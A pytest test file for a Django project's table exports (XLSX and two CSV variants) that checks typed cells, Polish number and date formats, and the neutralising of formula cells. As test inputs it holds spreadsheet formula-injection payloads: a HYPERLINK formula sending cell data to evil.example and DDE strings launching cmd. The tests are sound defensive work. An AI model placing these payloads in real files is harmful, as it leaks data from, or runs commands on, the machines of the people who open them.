"""Table exports: typed cells in XLSX, the CSV for Excel and the CSV for scripts, and formula
cells neutralised (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.http import Http404
from django.utils import translation

from integra.core.exports import (
    CSV_FORMATS,
    MACHINE_CSV,
    Number,
    Table,
    count,
    csv_response,
    csv_text,
    export_response,
    neutralised,
    rate,
    xlsx_response,
)
from integra.core.tests.sheets import xlsx_sheet


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
        "+48 cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rleading return",
    ],
)
def test_a_formula_cell_is_prefixed_so_it_shows_as_typed(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Gmina Widawa", "-1 234,56", "-12.50", "+48", "1001022", "", "a=b", "e-mail"]
)
def test_plain_text_and_numbers_stay_as_they_are(value):
    assert neutralised(value) == value


def test_the_csv_response_neutralises_header_and_rows():
    table = Table(
        name="t",
        title="t",
        header=["Nazwa", "=1+1"],
        rows=[["=cmd|' /C calc'!A0", "-5,00"], ["@x", "ok"]],
    )
    body = csv_response(table).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows == [
        ["Nazwa", "'=1+1"],
        ["'=cmd|' /C calc'!A0", "-5,00"],
        ["'@x", "ok"],
    ]


@pytest.fixture(autouse=True)
def polish():
    """Booleans are written in the language of the request: Polish by default."""
    with translation.override("pl"):
        yield


MOMENT = dt.datetime(2008, 3, 13, 13, 5, 7, tzinfo=dt.UTC)  # 14:05:07 in Warsaw


def _typed_table():
    return Table(
        name="t",
        title="Arkusz",
        header=["TERYT", "Rok", "Kwota (EUR)", "Dzień", "Uwagi", "Ludność", "Kurs", "Chwila", "?"],
        rows=[
            [
                "0601022",
                2008,
                Decimal("11.08"),
                dt.date(2008, 3, 13),
                None,
                count(1234567),
                rate(Decimal("3.83120000")),
                MOMENT,
                True,
            ],
            ["1003042", 2007, Decimal("-1234567.5"), None, "=1+1", None, None, None, False],
        ],
    )


def test_xlsx_cells_are_typed_numbers_dates_and_text():
    sheet = xlsx_sheet(xlsx_response(_typed_table()).content)
    first = [c.value for c in sheet[2]]
    assert first[:4] == ["0601022", 2008, 11.08, dt.datetime(2008, 3, 13)]
    assert first[4] is None
    assert sheet["A2"].data_type == "s"  # a TERYT code keeps its leading zero
    assert (sheet["B2"].number_format, sheet["C2"].number_format) == ("0", "#,##0.00")
    assert (sheet["D2"].is_date, sheet["D2"].number_format) == (True, "dd.mm.yyyy")
    assert [c.value for c in sheet[3]][2] == -1234567.5
    assert sheet["E3"].data_type == "s"  # a formula-looking text stays text


def test_xlsx_counts_are_grouped_rates_have_four_decimals_and_moments_are_local():
    sheet = xlsx_sheet(xlsx_response(_typed_table()).content)
    assert (sheet["F2"].value, sheet["F2"].number_format) == (1234567, "#,##0")
    assert (sheet["G2"].value, sheet["G2"].number_format) == (3.8312, "0.0000")
    assert sheet["H2"].value == dt.datetime(2008, 3, 13, 14, 5, 7)
    assert sheet["H2"].number_format == "dd.mm.yyyy hh:mm:ss"
    assert [sheet["I2"].value, sheet["I2"].data_type, sheet["I3"].value] == ["tak", "s", "nie"]
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"


def test_csv_for_excel_has_decimal_commas_polish_dates_a_bom_and_crlf():
    body = csv_response(_typed_table()).content
    assert body.startswith("\ufeff".encode()) and body.count(b"\r\n") == 3
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1] == [
        "0601022",
        "2008",
        "11,08",
        "13.03.2008",
        "",
        "1234567",
        "3,83120000",
        "13.03.2008 14:05:07",
        "tak",
    ]
    assert rows[2] == ["1003042", "2007", "-1234567,50", "", "'=1+1", "", "", "", "nie"]


def test_csv_for_scripts_has_commas_decimal_points_iso_dates_and_no_bom():
    response = export_response(_typed_table(), "dane.csv")
    body = response.content
    assert not body.startswith("\ufeff".encode())
    assert response["Content-Disposition"] == 'attachment; filename="t-dane.csv"'
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[0][2] == "Kwota (EUR)"
    assert rows[1] == [
        "0601022",
        "2008",
        "11.08",
        "2008-03-13",
        "",
        "1234567",
        "3.83120000",
        "2008-03-13T14:05:07+01:00",
        "tak",
    ]
    assert rows[2][4] == "'=1+1"  # neutralised here too: a script's output may reach Excel


@pytest.mark.parametrize(
    ("value", "for_excel", "for_scripts"),
    [
        (Decimal("24000"), "24000,00", "24000.00"),
        (Decimal("0"), "0,00", "0.00"),
        (Decimal("-5.5"), "-5,50", "-5.50"),
        (Decimal("1.2345"), "1,2345", "1.2345"),
        (count(1234567), "1234567", "1234567"),
    ],
)
def test_a_csv_amount_shows_its_cents_and_no_grouping(value, for_excel, for_scripts):
    assert (csv_text(value), csv_text(value, MACHINE_CSV)) == (for_excel, for_scripts)


@pytest.mark.parametrize("fmt", ["csv", "dane.csv", "xlsx"])
def test_each_offered_format_answers(fmt):
    assert export_response(_typed_table(), fmt).status_code == 200


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "dane", "xlsx.csv", "", "dane.csv "])
def test_a_format_not_offered_is_not_found(fmt):
    with pytest.raises(Http404):
        export_response(_typed_table(), fmt)


def test_an_export_may_offer_fewer_formats():
    with pytest.raises(Http404):
        export_response(_typed_table(), "xlsx", CSV_FORMATS)
    assert export_response(_typed_table(), "dane.csv", CSV_FORMATS).status_code == 200


@pytest.mark.parametrize(
    ("value", "places", "grouped", "expected"),
    [(1, 0, True, "#,##0"), (1, 2, True, "#,##0.00"), (1, 4, False, "0.0000"), (1, 0, False, "0")],
)
def test_a_number_says_its_xlsx_format(value, places, grouped, expected):
    assert Number(value, places, grouped).number_format == expected


def test_count_and_rate_keep_a_missing_value_missing():
    assert (count(None), rate(None)) == (None, None)
